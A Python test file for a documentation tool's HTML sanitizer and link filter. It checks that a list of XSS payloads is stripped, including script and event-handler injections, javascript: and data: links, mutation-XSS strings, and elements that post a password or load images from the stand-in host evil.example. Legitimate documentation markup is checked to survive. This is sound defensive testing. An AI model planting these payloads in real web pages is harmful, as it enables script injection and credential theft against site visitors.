import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from waypost.docs.clean import address, clean

ATTACKS = [
    pytest.param("<script>alert(1)</script>", id="script"),
    pytest.param("<p onclick=alert(1)>x</p>", id="handler"),
    pytest.param('<a href="javascript:alert(1)">x</a>', id="CVE-2021-32660: script as a link"),
    pytest.param('<a href="JaVaScRiPt&#58;alert(1)">x</a>', id="in disguise"),
    pytest.param('<a href="java\nscript:alert(1)">x</a>', id="over two lines"),
    pytest.param('<a href="data:text/html,<script>alert(1)</script>">x</a>', id="data"),
    pytest.param('<a href="vbscript:x">x</a>', id="vbscript"),
    pytest.param("<svg><script>alert(1)</script></svg>", id="CVE-2021-32661: script in SVG"),
    pytest.param("<svg onload=alert(1)>", id="SVG that runs"),
    pytest.param("<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'"
                 ">", id="CVE-2026-106556: parsed anew as something else"),
    pytest.param("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", id="noscript"),
    pytest.param("<iframe srcdoc='<script>alert(1)</script>'></iframe>", id="frame"),
    pytest.param("<object data=x.html></object><embed src=x>", id="object"),
    pytest.param("<form action=https://evil.example><input name=password></form>", id="form"),
    pytest.param("<meta http-equiv=refresh content='0;url=https://evil.example'>", id="refresh"),
    pytest.param("<link rel=stylesheet href=https://evil.example/x.css>", id="style sheet"),
    pytest.param("<base href=https://evil.example/>", id="base"),
    pytest.param("<style>body{background:url(https://evil.example)}</style>", id="style"),
    pytest.param("<p style='background:url(https://evil.example)'>x</p>", id="style of an element"),
    pytest.param("<td style='text-align:left;background:url(https://evil.example)'>x</td>", id="style of a cell"),
    pytest.param("<img src=https://evil.example/pixel.png>", id="image from elsewhere"),
    pytest.param("<img src='//evil.example/pixel.png'>", id="image without scheme"),
    pytest.param("<img src='/\\evil.example/pixel.png'>", id="image with a backslash"),
    pytest.param("<img src='\t//evil.example/pixel.png'>", id="image with a tab"),
    pytest.param("<img srcset='https://evil.example/p.png 2x' src=a.png>", id="srcset"),
    pytest.param("<video src=https://evil.example/v.mp4 autoplay></video>", id="video"),
    pytest.param("<input type=image src=https://evil.example/x>", id="image button"),
    pytest.param("<div class='md-overlay wp-header'>x</div>", id="classes of the frame"),
    pytest.param("<template><script>alert(1)</script></template>", id="template"),
    pytest.param("<!--[if IE]><script>alert(1)</script><![endif]-->", id="comment"),
]  # fmt: skip
FORBIDDEN = re.compile(
    r"<(script|style|svg|iframe|object|embed|form|meta|link|base|template|video|math)|\son\w+\s*=|href=\"(?!https?:|mailto:|#|\.)"
    r"[a-z]*:|<[^>]*evil\.example|type=\"image\"|<input|md-overlay|wp-header|<!--",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", ATTACKS)
def test_nothing_that_runs_or_asks_another_host_remains(html):
    assert not FORBIDDEN.search(clean(html)), clean(html)


@pytest.mark.parametrize("html", ATTACKS)
def test_cleaning_again_changes_nothing(html):
    assert clean(clean(html)) == clean(html)


@given(
    st.lists(st.sampled_from([attack.values[0] for attack in ATTACKS]), max_size=4).map("".join), st.text(max_size=9)
)
def test_attacks_joined_do_not_become_a_new_one(html, text):
    once = clean(html + text)
    assert not FORBIDDEN.search(re.sub(r"&lt;[^<]*", "", once))
    assert clean(once) == once


@pytest.mark.parametrize(
    "html",
    [
        pytest.param('<div class="admonition note"><p class="admonition-title">Note</p></div>', id="admonition"),
        pytest.param('<pre><code class="language-py"><span class="kn">import</span></code></pre>', id="code"),
        pytest.param('<details class="tip" open=""><summary>More</summary></details>', id="details"),
        pytest.param('<h2 id="a-b">A<a class="headerlink" href="#a-b" title="Permanent link">¶</a></h2>', id="heading"),
        pytest.param('<div class="mermaid">graph TD; A--&gt;B</div>', id="mermaid"),
        pytest.param('<input checked="" disabled="" type="checkbox">', id="task"),
        pytest.param('<input checked="" id="__tabbed_1_1" name="__tabbed_1" type="radio">', id="tab"),
        pytest.param('<label for="__tabbed_1_1">One</label>', id="label of a tab"),
        pytest.param('<table><tbody><tr><td align="right">1</td></tr></tbody></table>', id="table"),
        pytest.param('<img alt="A" src="../images/a.png">', id="image of the site"),
        pytest.param('<a href="../other/#x">x</a>', id="relative link"),
        pytest.param('<a href="mailto:team@example.org">x</a>', id="mail"),
        pytest.param('<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>', id="footnote"),
        pytest.param('<a class="md-button" href="x/">Go</a>', id="button"),
    ],
)
def test_what_documentation_needs_is_kept(html):
    kept = clean(html).replace(' rel="noopener noreferrer"', "")
    assert sorted(re.findall(r"[\w:#./-]+", kept)) == sorted(re.findall(r"[\w:#./-]+", html))


def test_cells_are_aligned_without_a_style_and_code_about_it_stays_as_written():
    assert 'align="right">1' in clean('<table><tbody><tr><td style="text-align: right;">1</td></tr></tbody></table>')
    code = '<code>&lt;td style="text-align: right;"&gt;</code>'
    assert clean(code) == code


@pytest.mark.parametrize("url", ["javascript:x", "/etc", "//evil.example", "\\\\evil", "data:x", "x\\y"])
def test_navigation_leads_nowhere_else(url):
    assert address(url) == ""


@pytest.mark.parametrize("url", ["guide/", "", "#top", "https://example.org/x", "a/b:c/"])
def test_navigation_leads_to_pages_and_the_web(url):
    assert address(url) == url
